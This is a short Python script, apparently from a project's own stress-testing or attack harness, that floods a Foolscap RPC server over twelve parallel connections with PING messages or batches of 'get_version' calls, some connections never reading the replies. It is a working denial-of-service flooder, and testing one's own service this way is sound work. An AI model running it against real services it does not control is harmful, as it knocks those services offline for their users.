"""Clients over Foolscap that send PINGs, or small calls, without end; some never read an answer."""

from __future__ import annotations

import itertools
import socket
import threading

from misc.attack.foolscap import PINGS, Peer, call, in_parallel, refused
from misc.attack.target import Target, from_command_line

CONNECTIONS = 12
CALLS = 2048
_kinds = itertools.cycle(range(4))
_lock = threading.Lock()


def attack(target: Target) -> None:
    """Flood it, in four ways."""
    in_parallel(target, CONNECTIONS, flood)


def flood(target: Target) -> None:
    """Flood it in one way, until it is cut."""
    with _lock:
        kind = next(_kinds)
    peer = Peer(target).name()
    with peer.socket as connection:
        connection.settimeout(max(0.1, target.left_s))
        if kind % 2:  # else answers are left where they are
            threading.Thread(target=swallow, args=(connection,), daemon=True).start()
        numbers = itertools.count(2)
        while target.left_s > 0:
            if kind < 2:
                connection.sendall(PINGS)
            else:
                calls = (call(next(numbers), peer.storage, b"get_version") for _ in range(CALLS))
                connection.sendall(b"".join(calls))


def swallow(connection: socket.socket) -> None:
    """Read whatever comes."""
    with refused():
        while connection.recv(1 << 20):
            pass


if __name__ == "__main__":
    attack(from_command_line(__doc__))
